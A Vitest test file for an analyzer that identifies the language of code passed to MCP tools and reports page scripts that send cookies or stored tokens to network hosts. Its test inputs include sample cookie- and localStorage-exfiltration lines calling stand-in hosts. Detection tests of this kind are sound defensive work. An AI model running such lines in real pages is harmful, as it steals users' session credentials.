import { describe, expect, it } from 'vitest';
import { codeInputOf, pageScriptEffects } from './code-input.js';

describe('code handed to a tool', () => {
  it('takes the language from the input or the words of the name; a browser runs JavaScript in a page', () => {
    expect(codeInputOf('mcp__puppeteer__puppeteer_evaluate', { script: 'document.title' })).toEqual({ language: 'javascript', code: 'document.title', page: true });
    expect(codeInputOf('mcp__sandbox__run_python', { code: 'print(1)' })).toMatchObject({ language: 'python', page: false });
    expect(codeInputOf('mcp__x__execute_code', { language: 'Ruby', code: 'puts 1' })).toMatchObject({ language: 'ruby' });
    expect(codeInputOf('mcp__shell__execute', { script: 'ls' })).toBeNull();
  });

  it('states a send per network sink of a page script, with the page credentials it reads', () => {
    const sends = pageScriptEffects("navigator.sendBeacon('https://c.example/b', document['cookie'])");
    expect(sends).toMatchObject([{ type: 'send', sink: 'https://c.example/b', sources: ['page:cookie'] }]);
    expect(pageScriptEffects("new Image().src = 'https://i.example/p?' + localStorage.getItem('t')")).toMatchObject([{ type: 'send', sources: ['page:storage'] }, { type: 'send', sources: ['page:storage'] }]);
    expect(pageScriptEffects('document.querySelectorAll("a").length')).toEqual([]);
    expect(pageScriptEffects("fetch('/api/health')")).toMatchObject([{ type: 'send', sink: 'page', sources: [] }]);
  });
});
